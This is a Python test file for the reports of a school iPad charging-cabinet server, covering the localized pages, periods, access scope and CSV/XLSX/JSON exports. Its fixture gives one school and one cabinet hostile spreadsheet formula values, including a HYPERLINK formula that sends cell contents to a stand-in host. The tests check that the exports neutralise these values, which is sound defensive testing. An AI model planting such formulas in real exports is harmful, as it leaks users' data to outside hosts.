"""The school reports (issue 17): the page with its figures in German and English, its print view,
the period (default, chosen, refused), scope and filters, and the JSON, CSV (German Excel) and
XLSX of the same report, from a store with known daily roll-ups; and once from recorded slot
changes through the roll-up, as in the collector."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import re
import zipfile
from datetime import UTC, date, datetime, timedelta
from typing import Any, Final

import httpx
import pytest
from sqlalchemy import Engine, insert

from cabinet_agent.common.protocol import ChargeSession, SessionEnd
from server.alerts.state import StoredState
from server.api import ApiSources, create_app
from server.assets import AssetRegister, org_slots
from server.auth import Auth, Role, User, UserStore
from server.battery import BatteryAgeing
from server.history.rollup import Rollups
from server.history.source import ReportSource
from server.ingest import MqttStats
from server.inventory import Inventory
from server.org import Organisation
from server.pipeline import IngestStats
from server.schoolcal import Calendars
from server.store import open_store
from server.store.schema import daily_cabinets, daily_slots, rollup_days, slot_changes
from server.tsdb.base import SinkHealth, SinkStats
from server.web import Dashboard, install_dashboard
from server.web.report_pages import BadPeriod, period
from tests.support.inventory import tagged_fleet

pytestmark = pytest.mark.store

NOW: Final = datetime(2026, 12, 2, 8, 0, tzinfo=UTC)  # Wednesday 09:00 in Berlin
NOV: Final = [date(2026, 11, d) for d in range(1, 31)]
SCHOOL_WEEK: Final = NOV[1:6]  # Monday 2 to Friday 6 November
EVIL: Final = '=HYPERLINK("http://x.example/?"&A1;"Akku")'
ORG: Final = Organisation.model_validate({
    "district": "Landkreis Musterland", "district_team": "it",
    "teams": [{"id": "it", "name": "IT"}],
    "municipalities": [{"id": "nord", "name": "Nordheim"}, {"id": "sued", "name": "Südstadt"}],
    "schools": [{"site": "gs-park", "name": "Grundschule am Park", "municipality": "nord"},
                {"site": "gs-linde", "name": "Grundschule Linde", "municipality": "nord"},
                {"site": "gs-berg", "name": "Gesamtschule Berg", "municipality": "sued",
                 "policy": "one_to_one"},
                {"site": "gs-evil", "name": EVIL, "municipality": "sued"}],
    "cabinets": [{"school": "gs-park", "id": "k1", "name": "Raum 12",
                  "slots": {1: "PARK-1", 2: "PARK-2"}},
                 {"school": "gs-linde", "id": "k1", "name": "Bibliothek", "slots": {1: "LINDE-1"}},
                 {"school": "gs-berg", "id": "k1", "name": "Aula", "slots": {1: "BERG-1"}},
                 {"school": "gs-evil", "id": "k1", "name": "-1+1", "slots": {1: "@EVIL"}}],
})
NBSP = "\u00a0"
CALENDARS: Final = Calendars(ORG.zone, ORG.state, [])  # November 2026: 21 school days
SITES: Final = ("gs-park", "gs-linde", "gs-berg", "gs-evil")
WEEK: Final = "from=2026-11-02&to=2026-11-08"  # the week with data: Monday to Sunday


def _slot_day(day: date, site: str, slot: int, *, ready: int | None, returned: int | None,
              sessions: int = 1, wh: float = 123.4) -> dict[str, Any]:
    school_day = day.weekday() < 5
    return {"day": day, "site": site, "cabinet": "k1", "slot": slot, "asset_tag": None,
            "school_day": int(school_day), "ready": ready if school_day else None,
            "returned": returned if school_day else None,
            "sessions": sessions if school_day else 0, "energy_wh": wh if school_day else 0.0}


def known_rollups(engine: Engine) -> None:
    """November 2026, rolled up already (each school's days summed up as the roll-up does:
    every day of the month, school days from the calendar: 21). Grundschule am Park (2 slots,
    data from Mon 2 to Sun 8 Nov): slot 1 ready every school day, slot 2 not on Thursday and
    Friday (8 of 10: 80 %) and not back then (2 not returned); 10 sessions of 123.4 Wh; its
    cabinet online 90 % of the known time.
    Linde (1 slot): ready and back on all five. Berg (one-to-one): no readiness, one not back.
    The hostile school: one school day, ready."""
    slots = []
    for day in NOV[1:8]:
        late = day.weekday() in (3, 4)
        slots.append(_slot_day(day, "gs-park", 1, ready=1, returned=1))
        slots.append(_slot_day(day, "gs-park", 2, ready=0 if late else 1,
                               returned=0 if late else 1))
        slots.append(_slot_day(day, "gs-linde", 1, ready=1, returned=1, wh=50.0))
    slots.append(_slot_day(NOV[1], "gs-berg", 1, ready=None, returned=0, sessions=0, wh=0.0))
    slots.append(_slot_day(NOV[1], "gs-evil", 1, ready=1, returned=1))
    cabinets = [{"day": day, "site": "gs-park", "cabinet": "k1", "online_s": 77760.0,
                 "known_s": 86400.0} for day in SCHOOL_WEEK]
    done = [{"day": day, "site": site, "computed_at": NOW} for day in NOV for site in SITES]
    with engine.begin() as db:
        db.execute(insert(daily_slots), slots)
        db.execute(insert(daily_cabinets), cabinets)
        db.execute(insert(rollup_days), done)
    Rollups(engine, ORG, CALENDARS).summarise(SITES, NOV)


def _batteries() -> BatteryAgeing:
    """PARK-1 down to 70 % of its first charges (worn), PARK-2 at 95 %, LINDE-1 at 90 %, the
    hostile school's at 98 %."""
    ageing = BatteryAgeing()
    for tag, recent in (("PARK-1", 7.0), ("PARK-2", 9.5), ("LINDE-1", 9.0), ("@EVIL", 9.8)):
        for n, taper in enumerate([10.0] * 5 + [recent] * 5):
            ageing.add(ChargeSession(slot=1, asset_tag=tag, started_at=NOW - timedelta(days=20 - n),
                                     ended_at=NOW - timedelta(days=20 - n, hours=-2),
                                     duration_s=7200.0, energy_wh=40.0, peak_w=18.0,
                                     end=SessionEnd.FULL, taper_wh=taper))
    return ageing


class World:
    def __init__(self, store: bool = True, rollups: bool = True) -> None:
        self.engine = open_store(None)
        if rollups:
            known_rollups(self.engine)
        inventory = Inventory.in_memory(lambda: NOW)
        inventory.seed(org_slots(ORG), "server.toml")
        users = UserStore(self.engine)  # the one store, as in the collector
        users.add_user(User("admin", Role.ADMIN), "a-long-password", NOW)
        users.add_user(User("tech-nord", Role.TECHNICIAN, municipality="nord"), "a-long-password",
                       NOW)
        users.add_user(User("lehrerin", Role.VIEWER, school="gs-park"), "a-long-password", NOW)
        state = StoredState.in_memory()
        sources = ApiSources(
            fleet=tagged_fleet({}), alerts=state, state=state, clock=lambda: NOW, org=ORG,
            ingest_stats=lambda **_: IngestStats(0, 0, {}),
            mqtt_stats=lambda: MqttStats(True, 1, 0, None),
            tsdb_stats=lambda: SinkStats(SinkHealth.OK), auth=Auth(users, lambda: NOW),
            assets=AssetRegister(inventory))
        reports = ReportSource(self.engine, ORG, CALENDARS, _batteries(),
                               inventory, 0.30, lambda: NOW) if store else None
        self.app = create_app(sources)
        install_dashboard(self.app, Dashboard(sources, store=self.engine, reports=reports))
        self.tokens = {name: users.create_token(name, "t", NOW)
                       for name in ("admin", "tech-nord", "lehrerin")}

    def get(self, path: str, user: str = "admin") -> httpx.Response:
        async def call() -> httpx.Response:
            transport = httpx.ASGITransport(app=self.app)
            async with httpx.AsyncClient(
                    transport=transport, base_url="http://t",
                    headers={"Authorization": f"Bearer {self.tokens[user]}"}) as client:
                return await client.get(path)
        return asyncio.run(call())


@pytest.fixture(scope="module")
def world() -> World:
    return World()


def _text(fragment: str) -> str:
    text = re.sub(r"<(script|style|svg)\b.*?</\1>", " ", fragment, flags=re.S)
    return re.sub(r"[ \t\r\n]+", " ", html.unescape(re.sub(r"<[^>]+>", " ", text))).strip()


def _row(page: str, kind: str, key: str = "") -> dict[str, str]:
    """A row of the school table: its name and each cell by column."""
    site = f' data-site="{key}"' if key else ""
    pattern = rf'<tr class="rep-{kind}"{site}>(.*?)</tr>'
    found = re.search(pattern, page, flags=re.S)
    assert found is not None, (kind, key)
    cells = dict(re.findall(r'data-col="(\w+)">(.*?)</td>', found.group(1), flags=re.S))
    name = re.search(r'<th scope="row">(.*?)</th>', found.group(1), flags=re.S)
    assert name is not None
    return {"name": _text(name.group(1)), **{k: _text(v) for k, v in cells.items()}}


# -- the period ------------------------------------------------------------------------------------

def test_the_period_defaults_to_the_last_full_month_and_is_bounded() -> None:
    assert period(None, None, date(2026, 12, 2)) == (date(2026, 11, 1), date(2026, 11, 30))
    assert period(None, None, date(2027, 1, 1)) == (date(2026, 12, 1), date(2026, 12, 31))
    assert period(date(2028, 2, 3), None, date(2026, 12, 2)) == (date(2028, 2, 3), date(2028, 2, 29))
    assert period(None, date(2026, 3, 9), date(2026, 12, 2)) == (date(2026, 3, 1), date(2026, 3, 9))
    assert period(date(2026, 1, 1), date(2027, 2, 4), date(2026, 12, 2))[1] == date(2027, 2, 4)
    for first, last, key in ((date(2026, 11, 5), date(2026, 11, 4), "rep.bad_order"),
                             (date(2026, 1, 1), date(2027, 2, 5), "rep.too_long"),
                             (date(1, 1, 1), date(1, 1, 2), "rep.out_of_range")):
        with pytest.raises(BadPeriod) as refused:
            period(first, last, date(2026, 12, 2))
        assert refused.value.key == key
    assert "401" in BadPeriod("rep.too_long", max=400, days=401).text("de")


# -- the page --------------------------------------------------------------------------------------

def _head(page: str) -> str:
    return _text(re.search(r'<div class="report-head">(.*?)</div>', page, re.S).group(1))  # type: ignore[union-attr]


def test_the_page_shows_last_month_in_german(world: World) -> None:
    response = world.get("/reports")
    assert response.status_code == 200
    page = response.text
    head = _head(page)
    assert head.startswith("Schulbericht – Landkreis Musterland Zeitraum: November 2026 "
                           "(30 Tage, davon 21 Schultage)"), head
    assert "Stand: Mittwoch, 2. Dezember 2026, 09:00 Uhr" in head
    park = _row(page, "school", "gs-park")  # 21 school days, 5 of them with data
    assert (park["school_days"], park["readiness"], park["not_returned"], park["per_day"]) == \
        ("21", f"80,0{NBSP}%", "2", "0,1")
    assert "Für diesen Zeitraum liegen noch keine Daten vor." not in page
    for link in ("/reports?from=2026-11-01&amp;to=2026-11-30&amp;print=1",
                 "/api/export/report.csv?from=2026-11-01&amp;to=2026-11-30&amp;lang=de",
                 "/api/export/report.xlsx?from=2026-11-01&amp;to=2026-11-30&amp;lang=de"):
        assert f'href="{link}"' in page, link
    assert '<a href="/reports">Berichte</a>' in page  # the navigation
    assert "Mo 30.11." in page  # the charts run over the month's school days


def test_the_weeks_figures_in_german(world: World) -> None:
    page = world.get(f"/reports?{WEEK}").text
    assert _head(page).startswith("Schulbericht – Landkreis Musterland Zeitraum: 2. November "
                                  "2026 – 8. November 2026 (7 Tage, davon 5 Schultage)")
    park = _row(page, "school", "gs-park")
    assert park == {"name": "Grundschule am Park", "school_days": "5",
                    "readiness": f"80,0{NBSP}%", "not_returned": "2", "per_day": "0,4",
                    "sessions": "10", "energy": f"1,2{NBSP}kWh", "cost": f"0,37{NBSP}€",
                    "availability": f"90,0{NBSP}%"}
    assert _row(page, "school", "gs-linde")["readiness"] == f"100,0{NBSP}%"
    berg = _row(page, "school", "gs-berg")  # one-to-one: iPads come from home, no readiness
    assert berg["readiness"] == "–" and berg["not_returned"] == "1" and berg["per_day"] == "0,2"
    assert berg["availability"] == "–"  # no cabinet status known
    nord = _row(page, "municipality")  # the first subtotal: Nordheim, 13 of 15 ready
    assert nord["name"] == "Summe Nordheim" and nord["readiness"] == f"86,7{NBSP}%"
    total = _row(page, "total")
    assert total["name"] == "Gesamt" and total["school_days"] == "5"
    assert total["readiness"] == f"87,5{NBSP}%"  # 14 of 16 (the hostile school's one)
    assert total["not_returned"] == "3" and total["sessions"] == "16"
    order = re.findall(r'<tr class="rep-(\w+)"(?: data-site="([\w-]+)")?>', page)
    assert order == [("school", "gs-park"), ("school", "gs-linde"), ("municipality", ""),
                     ("school", "gs-evil"), ("school", "gs-berg"), ("municipality", ""),
                     ("total", "")]  # by name in each municipality ("=" before "G")
    tiles = _text(re.search(r'<ul class="rep-tiles">(.*?)</ul>', page, re.S).group(1))  # type: ignore[union-attr]
    assert f"87,5{NBSP}% Bereit zu Schulbeginn" in tiles
    assert "3 nicht zurückgegeben (0,6 je Schultag)" in tiles
    # the charts: one bar per school day with its value, colour by readiness
    assert page.count('<svg class="rep-bars"') == 2
    assert f"<title>Mo 02.11.: 100,0{NBSP}% (4 von 4)</title>" in page  # all four schools' slots
    assert f"<title>Do 05.11.: 66,7{NBSP}% (2 von 3)</title>" in page
    assert re.search(r'<rect class="fair"[^>]*><title>Do 05', page) is None
    assert re.search(r'<rect class="poor"[^>]*><title>Do 05', page)  # below 75 %: red
    assert f"im Mittel 87,5{NBSP}%, am wenigsten 66,7{NBSP}% am Do 05.11." in page
    assert "insgesamt 3, die meisten (1) am Mo 02.11." in page
    assert "zu 0,30" in _text(page) and "je kWh" in _text(page)
    assert 'href="/api/export/report.csv?from=2026-11-02&amp;to=2026-11-08&amp;lang=de"' in page


def test_the_page_in_english(world: World) -> None:
    page = world.get("/reports?lang=en").text
    park = _row(page, "school", "gs-park")
    assert park["readiness"] == "80.0%" and park["cost"] == "€0.37"
    assert park["energy"] == f"1.2{NBSP}kWh" and park["per_day"] == "0.1"
    assert "Period: November 2026 (30 days, 21 school days)" in _text(page)
    assert "<title>Mon 2 Nov: 100.0%" in page or "<title>Mon 02 Nov: 100.0%" in page
    assert "Batteries by wear" in page and "Schulbericht" not in page
    assert _row(page, "total")["name"] == "Total"


def test_the_page_names_things_and_shows_no_iso_dates(world: World) -> None:
    for lang in ("de", "en"):
        text = _text(world.get(f"/reports?lang={lang}").text)
        assert not re.search(r"\d{4}-\d\d-\d\d", text), text
        for raw in ("gs-park", "gs-linde", "nord", "k1"):
            assert not re.search(rf"(?<![\w/-]){raw}(?![\w/-])", text), raw
        if lang == "de":
            assert not re.search(r"\d\.\d+ ?(%|kWh|€)", text)


def test_batteries_ranked_by_wear_with_names(world: World) -> None:
    page = world.get("/reports").text
    table = re.search(r'<table class="report rep-batteries">(.*?)</table>', page, re.S)
    assert table is not None
    rows = [_text(r) for r in re.findall(r"<tr[^>]*>(.*?)</tr>", table.group(1), re.S)[1:]]
    assert rows == [f"PARK-1 Grundschule am Park · Raum 12 · Fach 1 70,0{NBSP}% 10 ja",
                    f"LINDE-1 Grundschule Linde · Bibliothek · Fach 1 90,0{NBSP}% 10 nein",
                    f"PARK-2 Grundschule am Park · Raum 12 · Fach 2 95,0{NBSP}% 10 nein",
                    f"@EVIL {EVIL} · -1+1 · Fach 1 98,0{NBSP}% 10 nein"]
    assert '<tr class="worn">' in table.group(1)


def test_a_chosen_period_and_the_print_view(world: World) -> None:
    page = world.get("/reports?school=gs-park&from=2026-11-02&to=2026-11-04&print=1").text
    head = _text(re.search(r'<div class="report-head">(.*?)</div>', page, re.S).group(1))  # type: ignore[union-attr]
    assert head.startswith("Schulbericht – Grundschule am Park Zeitraum: 2. November 2026 – "
                           "4. November 2026 (3 Tage, davon 3 Schultage)"), head
    assert 'class="report-page print-view"' in page
    assert '<link rel="stylesheet" href="/static/print.css" media="all">' in page
    assert 'href="/reports?school=gs-park&amp;from=2026-11-02&amp;to=2026-11-04">zurück zum ' \
           "Bericht</a>" in page
    assert "report-filter" not in page  # no form on paper
    assert '<table class="report">' not in page  # one school: its tiles, no table of one row
    assert f"100,0{NBSP}% Bereit zu Schulbeginn" in _text(page)  # Mon–Wed: all ready
    # the form's fields show the days as people write them; sent so, they lead to ISO days
    assert 'name="from" value="01.11.2026"' in world.get("/reports").text
    assert 'name="to" value="30/11/2026"' in world.get("/reports?lang=en").text
    for query in ("from=02.11.2026&to=4.11.2026", "from=02/11/2026&to=04/11/2026",
                  "from=2026-11-02&to=04.11.2026"):
        sent = world.get(f"/reports?school=gs-park&{query}&print=1")
        assert sent.status_code == 303, query
        assert sent.headers["location"] == \
            "/reports?school=gs-park&print=1&from=2026-11-02&to=2026-11-04"


@pytest.mark.parametrize(("query", "words"), [
    ("from=2026-11-05&to=2026-11-04", "Der Zeitraum beginnt (5. November 2026) nach seinem Ende "
                                      "(4. November 2026)."),
    ("from=2025-01-01&to=2026-11-30", "höchstens 400 Tage, gewählt sind 699"),
    ("from=2026-13-01", "„2026-13-01“ ist kein Datum"),
    ("from=1999-12-01&to=1999-12-31", "nur für Tage vom 1. Januar 2000"),
])
def test_a_period_that_cannot_be_reported_is_refused_clearly(world: World, query: str,
                                                             words: str) -> None:
    response = world.get(f"/reports?{query}")
    assert response.status_code == 422
    assert words in _text(response.text)
    assert 'class="report-filter"' in response.text  # to choose again
    assert "rep-tiles" not in response.text
    english = world.get(f"/reports?{query}&lang=en")
    assert english.status_code == 422 and "report-error" in english.text


def test_scope_and_filters(world: World) -> None:
    viewer = world.get("/reports", "lehrerin").text
    assert "Schulbericht – Grundschule am Park" in viewer and "Linde" not in viewer
    assert "report-filter" in viewer and 'name="school"' not in viewer  # nothing to choose
    technician = world.get("/reports", "tech-nord").text
    assert "Schulbericht – Nordheim" in technician and "Berg" not in technician
    assert _row(technician, "total")["readiness"] == f"86,7{NBSP}%"
    assert "rep-municipality" not in technician  # one municipality: its total is the total
    mun = world.get("/reports?municipality=sued").text
    assert "Schulbericht – Südstadt" in mun and 'data-site="gs-park"' not in mun
    assert re.findall(r'data-site="([\w-]+)"', mun) == ["gs-evil", "gs-berg"]
    for user, query, status in (("lehrerin", "school=gs-linde", 403),
                                ("tech-nord", "municipality=sued", 403),
                                ("tech-nord", "school=gs-berg", 403),
                                ("admin", "municipality=west", 404),
                                ("admin", "school=gs-nowhere", 404)):
        assert world.get(f"/reports?{query}", user).status_code == status, (user, query)
        for api in ("/api/reports", "/api/export/report.csv", "/api/export/report.xlsx"):
            assert world.get(f"{api}?{query}", user).status_code == status, (api, user, query)


def test_without_a_store_the_page_says_so() -> None:
    world = World(store=False)
    response = world.get("/reports")
    assert response.status_code == 200
    assert "Berichte brauchen den Speicher des Servers" in response.text
    assert world.get("/api/reports").status_code == 503
    assert world.get("/api/export/report.csv").status_code == 503


# -- JSON, CSV, XLSX -------------------------------------------------------------------------------

def test_the_json_report(world: World) -> None:
    response = world.get(f"/api/reports?{WEEK}")
    assert response.status_code == 200
    body = response.json()
    assert (body["title"], body["first"], body["last"]) == ("Landkreis Musterland", "2026-11-02",
                                                            "2026-11-08")
    park = next(s for s in body["schools"] if s["id"] == "gs-park")
    assert park["municipality"] == "nord" and park["readiness"] == pytest.approx(0.8)
    assert park["cost_eur"] == pytest.approx(1.234 * 0.30)
    assert park["availability"] == pytest.approx(0.9) and len(park["days"]) == 7
    assert park["days"][0] == {"day": "2026-11-02", "school_day": True, "ready": 2,
                               "ready_known": 2, "readiness": 1.0, "not_returned": 0,
                               "return_known": 2, "sessions": 2,
                               "energy_kwh": pytest.approx(0.2468),
                               "cost_eur": pytest.approx(0.07404)}
    assert body["total"]["readiness"] == pytest.approx(14 / 16) and body["total"]["days"] == []
    assert body["total"]["school_days"] == 5 and body["total"]["not_returned_per_school_day"] == \
        pytest.approx(3 / 5)
    month = world.get("/api/reports").json()  # the default: last month, every day of it
    assert (month["first"], month["last"], month["total"]["school_days"]) == \
        ("2026-11-01", "2026-11-30", 21)
    assert all(len(school["days"]) == 30 for school in month["schools"])
    assert [b["asset_tag"] for b in body["batteries"]] == ["PARK-1", "LINDE-1", "PARK-2", "@EVIL"]
    assert body["batteries"][0]["cabinet_name"] == "Raum 12" and body["batteries"][0]["worn"]
    refused = world.get("/api/reports?from=2026-11-05&to=2026-11-04")
    assert refused.status_code == 422
    assert refused.json()["detail"][0]["loc"] == ["query", "from"]
    assert world.get("/api/reports?from=2026-02-30").status_code == 422


def test_the_csv_is_for_german_excel(world: World) -> None:
    month = world.get("/api/export/report.csv")  # the default: last month
    assert 'filename="schulbericht-2026-11-01-2026-11-30.csv"' in \
        month.headers["content-disposition"]
    assert month.text.count("\r\n") == 1 + 4 * 30  # the header, each school's every day
    response = world.get(f"/api/export/report.csv?{WEEK}")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
    assert rows[0] == ["Schule", "Gemeinde", "Datum", "Schultag", "iPads bereit",
                       "beurteilt zu Schulbeginn", "Bereitschaft (%)", "nicht zurückgegeben",
                       "beurteilt bei Rückgabe", "Ladevorgänge", "Energie (kWh)",
                       "Stromkosten (EUR)"]
    park = [r for r in rows if r[0] == "Grundschule am Park"]
    assert len(park) == 7
    assert park[0] == ["Grundschule am Park", "Nordheim", "02.11.2026", "ja", "2", "2", "100",
                       "0", "2", "2", "0,247", "0,07"]
    assert park[3] == ["Grundschule am Park", "Nordheim", "05.11.2026", "ja", "1", "2", "50",
                       "1", "2", "2", "0,247", "0,07"]
    assert park[5][2:] == ["07.11.2026", "nein", "0", "0", "", "0", "0", "0", "0", "0"]
    berg = next(r for r in rows if r[0] == "Gesamtschule Berg")
    assert berg[4:9] == ["0", "0", "", "1", "1"]
    evil = next(r for r in rows if "HYPERLINK" in r[0])
    assert evil[0] == "'" + EVIL  # neutralised: a text, not a formula
    assert '"Grundschule am Park";"Nordheim"' in body  # every cell quoted


def test_the_csv_in_english(world: World) -> None:
    body = world.get(f"/api/export/report.csv?lang=en&school=gs-park&{WEEK}").text
    assert not body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][:4] == ["School", "Municipality", "Date", "School day"]
    assert rows[1] == ["Grundschule am Park", "Nordheim", "2 Nov 2026", "yes", "2", "2", "100",
                       "0", "2", "2", "0.247", "0.07"]
    assert len(rows) == 8


def _xlsx(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name).decode("utf-8") for name in book.namelist()
                if name.endswith(".xml")}


def _cell(sheet: str, ref: str) -> str:
    found = re.search(rf'<c r="{ref}"([^>]*)>(.*?)</c>', sheet, re.S)
    assert found is not None, ref
    return found.group(1) + found.group(2)


def test_the_workbook(world: World) -> None:
    response = world.get(f"/api/export/report.xlsx?{WEEK}")
    assert response.status_code == 200
    assert response.headers["content-type"] == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="schulbericht-2026-11-02-2026-11-08.xlsx"' in \
        response.headers["content-disposition"]
    parts = _xlsx(response.content)
    workbook = parts["xl/workbook.xml"]
    assert re.findall(r'<sheet name="([^"]+)"', workbook) == ["Übersicht", "Tage", "Akkus"]
    strings = re.findall(r"<t[^>]*>(.*?)</t>", parts["xl/sharedStrings.xml"], re.S)
    strings = [html.unescape(s) for s in strings]
    assert EVIL in strings and "-1+1" in strings and "@EVIL" in strings
    summary, days, batteries = (parts[f"xl/worksheets/sheet{n}.xml"] for n in (1, 2, 3))
    for sheet in (summary, days, batteries):
        assert "<f>" not in sheet  # no formulas, whatever the names say
        assert 'state="frozen"' in sheet and 'ySplit="1"' in sheet  # the header row stays
        assert "<cols>" in sheet and "autoFilter" in sheet
    styles = parts["xl/styles.xml"]
    assert 'formatCode="dd.mm.yyyy"' in styles and 'formatCode="0.0%"' in styles
    assert "&quot;€&quot;" in styles and '<b/>' in styles

    def text(cell: str) -> str:
        index = re.search(r"<v>(\d+)</v>", cell)
        assert index is not None and 't="s"' in cell
        return strings[int(index.group(1))]

    # Übersicht: the schools by municipality, then the municipalities and the total
    assert [text(_cell(summary, f"{c}1")) for c in "ABCG"] == ["Ebene", "Gemeinde", "Schule",
                                                              "Bereitschaft (%)"]
    row = next(n for n in range(2, 9) if text(_cell(summary, f"C{n}")) == "Grundschule am Park")
    assert text(_cell(summary, f"A{row}")) == "Schule"
    assert _cell(summary, f"G{row}").endswith("<v>0.8</v>")  # a real number, shown as 80.0%
    assert _cell(summary, f"L{row}").endswith("<v>0.37</v>")  # EUR
    assert text(_cell(summary, "A8")) == "Gesamt"
    # Tage: Excel dates (days since 1899-12-30) with the date format
    assert text(_cell(days, "C1")) == "Datum"
    serial = (date(2026, 11, 2) - date(1899, 12, 30)).days
    first_day = _cell(days, "C2")
    assert f"<v>{serial}</v>" in first_day and 't="s"' not in first_day
    # Akkus: ranked, names beside the tag
    assert text(_cell(batteries, "B2")) == "PARK-1" and text(_cell(batteries, "D2")) == "Raum 12"
    assert _cell(batteries, "F2").endswith("<v>0.7</v>")
    english = _xlsx(world.get("/api/export/report.xlsx?lang=en").content)
    assert re.findall(r'<sheet name="([^"]+)"', english["xl/workbook.xml"]) == \
        ["Summary", "Days", "Batteries"]
    assert 'formatCode="d mmm yyyy"' in english["xl/styles.xml"]


# -- from recorded changes, through the roll-up ----------------------------------------------------

def test_a_report_from_recorded_slot_changes() -> None:
    """Monday 2 November: slot 1 charged since Sunday evening (ready at 07:30), slot 2 still
    charging at 07:30 (not ready) and empty at the 16:30 check (not returned)."""
    world = World(rollups=False)
    berlin = ORG.zone

    def at(day: int, hour: int, minute: int = 0) -> datetime:
        return datetime(2026, 11, day, hour, minute, tzinfo=berlin).astimezone(UTC)

    rows = [("gs-park", 1, at(1, 20), "charged", "PARK-1"),
            ("gs-park", 2, at(2, 6), "charging", "PARK-2"),
            ("gs-park", 2, at(2, 10), "empty", "PARK-2")]
    with world.engine.begin() as db:
        db.execute(insert(slot_changes), [
            {"site": site, "cabinet": "k1", "slot": slot, "at": moment, "state": state,
             "certainty": "certain", "asset_tag": tag} for site, slot, moment, state, tag in rows])
    page = world.get("/reports?school=gs-park&from=2026-11-02&to=2026-11-02").text
    assert f"50,0{NBSP}% Bereit zu Schulbeginn" in _text(page)
    assert "1 nicht zurückgegeben (1 je Schultag)" in _text(page)
    assert "<title>Mo 02.11.: 50,0" in page and "(1 von 2)" in page
    linde = world.get("/reports?school=gs-linde&from=2026-11-02&to=2026-11-02").text
    assert "Für diesen Zeitraum liegen noch keine Daten vor." in linde  # nothing recorded
    assert "rep-bars" not in linde and "alle zurück" not in linde  # nothing judged: no chart
    assert "(1 Tag, davon 1 Schultag)" in _text(linde)  # from the calendar
